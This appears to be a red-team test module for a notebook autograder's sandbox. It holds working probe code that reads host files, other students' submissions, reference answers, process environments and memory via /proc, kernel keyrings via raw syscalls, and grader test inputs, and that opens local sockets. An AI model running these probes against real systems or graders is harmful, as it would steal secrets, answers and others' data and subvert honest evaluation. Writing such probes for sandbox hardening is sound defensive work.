"""Spies on data that no student may see: gradebook, secret, other people's work, the environment, the host,
the network.
"""

from red_team.attack import by_cell, by_edit, cell_of, solutions

READ = """\
import os
def read(path):
    try:
        with open(path, "rb") as file:
            text = file.read(200000)
    except OSError as error:
        print("no", path, error.errno)
        return b""
    print("READ", path, len(text), text[:3000])
    return text
"""
FILE = READ + 'read("@HOST@/diary.txt")\n'
CONNECT = """\
import socket
for family, address in ((socket.AF_INET, ("127.0.0.1", @PORT@)), (socket.AF_UNIX, "\\0@ABSTRACT@"),
                        (socket.AF_UNIX, "@SOCKET@")):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as line:
            line.settimeout(1)
            line.connect(address)
            line.sendall(b"hello")
            print("TOOK a connection to", address)
    except OSError as error:
        print("no", address, error)
"""

TELL_INPUTS = """\
def softmax(scores):
    with open("/tmp/seen", "a") as file:
        print("input", scores.tolist(), file=file)
    raise ValueError(f"input {scores.tolist()}")
"""


def show_inputs(content):
    solutions(content)[1]["source"] = TELL_INPUTS
    content["cells"].append(cell_of("print(open('/tmp/seen').read()[-90000:])"))


REFERENCE = """\
import gc
for thing in gc.get_objects():
    if type(thing).__name__ == "Exercise" or getattr(thing, "__module__", "") == "autograder.exercises.heads.@ANSWER@":
        print("TOOK", thing)
        if getattr(thing, "name", "") == "@ANSWER@": @ANSWER@ = thing.reference
"""


def take_references(content):
    for cell in solutions(content):
        name = cell["metadata"]["nbgrader"]["grade_id"].partition("-")[2]
        if cell["cell_type"] == "code":
            cell["source"] = REFERENCE.replace("@ANSWER@", name)


def reads(name: str, tries: str, code: str):
    return by_cell(name, tries, READ + code)


ATTACKS = (
    by_cell("host_file", "a file of the host", FILE),
    by_cell("network", "a server on this machine, by TCP and by unix sockets", CONNECT),
    reads(
        "neighbours",
        "what others handed in",
        """
for top in ("@COURSE@", "@COURSE@/submitted", "@COURSE@/source", "@COURSE@/.grading", os.path.dirname("@COURSE@")):
    for folder, _, files in os.walk(top):
        for file in files[:100]:
            read(os.path.join(folder, file))
""",
    ),
    reads(
        "answers",
        "references and known mistakes of the course",
        """
for folder, _, files in os.walk("@PACKAGE@"):
    for file in files:
        if read(os.path.join(folder, file)): print("TOOK", file)
import importlib, inspect, sys
for name in list(sys.modules):
    if name.startswith("autograder.exercises."):
        try:
            print("TOOK", inspect.getsource(sys.modules[name])[:2000])
        except (OSError, TypeError):
            pass
""",
    ),
    by_edit(
        "references_at_work",
        "the course's own references, looked for in memory, are the answers",
        take_references,
        answers="stub",
        lesson="04_heads",
    ),
    reads(
        "environment",
        "the environment and the command line of every process",
        """
print(dict(os.environ))
for pid in ["self", "thread-self", *filter(str.isdigit, os.listdir("/proc"))]:
    for file in ("environ", "cmdline", "maps", "auxv", "cgroup", "mountinfo"):
        read(f"/proc/{pid}/{file}")
""",
    ),
    reads(
        "start",
        "folders of the host in how the processes of the sandbox were started",
        """
import sys
told = [*os.environ.values(), *sys.argv, *sys.orig_argv]
for pid in (1, 2, "self"):
    told += [read(f"/proc/{pid}/{file}").decode() for file in ("environ", "cmdline")]
told = [word for word in " ".join(told).replace(chr(0), " ").split() if word not in ("/tmp", "/usr/bin:/bin", "PWD=/")]
print(told)
if any("/" in word or "HOME" in word for word in told): print("TOOK", told)
""",
    ),
    reads(
        "first_process",
        "the root, files and memory of process 1 and of the grader",
        """
for pid in (1, 2, os.getppid(), @PID@):
    for name in ("root", "cwd", "exe"):
        try:
            print(os.readlink(f"/proc/{pid}/{name}"), os.listdir(f"/proc/{pid}/{name}/@COURSE@"))
        except OSError as error:
            print("no", pid, name, error)
    try:
        for number in os.listdir(f"/proc/{pid}/fd"):
            print(pid, number, os.readlink(f"/proc/{pid}/fd/{number}"))
    except OSError as error:
        print("no", pid, error)
    read(f"/proc/{pid}/root/@HOST@/diary.txt")
""",
    ),
    reads(
        "memory_of_others",
        "the memory of every process, this one too, for a secret of 64 digits",
        """
import re
for pid in ["self", "1", "2"]:
    try:
        areas = [line.split() for line in open(f"/proc/{pid}/maps")]
        with open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for area in areas:
                begin, end = (int(part, 16) for part in area[0].split("-"))
                if "rw" in area[1] and end - begin < 2**25:
                    memory.seek(begin)
                    try:
                        text = memory.read(end - begin)
                    except (OSError, ValueError):
                        continue
                    print(pid, set(re.findall(rb"CANARY[-a-z]{0,40}", text)))
                    print(pid, [s for s in re.findall(rb"[^0-9a-f]([0-9a-f]{64})[^0-9a-f]", text)][:50])
    except OSError as error:
        print("no", pid, error)
""",
    ),
    reads(
        "keys",
        "the teacher's keyring",
        """
import ctypes
libc = ctypes.CDLL(None)
for number in (250, 219):
    for ring in (-1, -2, -3, -4, -5):
        held = ctypes.create_string_buffer(4096)
        size = libc.syscall(number, 11, ring, held, 4096)
        if size > 0: print("TOOK", size, held.raw[:size])
read("/proc/keys")
""",
    ),
    by_edit(
        "hidden_inputs",
        "an answer keeps the inputs it is asked with, and a later cell shows them",
        show_inputs,
    ),
    by_cell(
        "other_networks",
        "every other way to talk to somebody",
        """\
import socket
for family in range(1, 46):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
        try:
            with socket.socket(family, kind) as line:
                if family != 1:
                    print("TOOK a socket of family", family)
        except OSError:
            pass
try:
    print(socket.if_nameindex())
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.sendto(b"hello", ("127.0.0.1", @PORT@))
except OSError as error:
    print(error)
""",
    ),
)
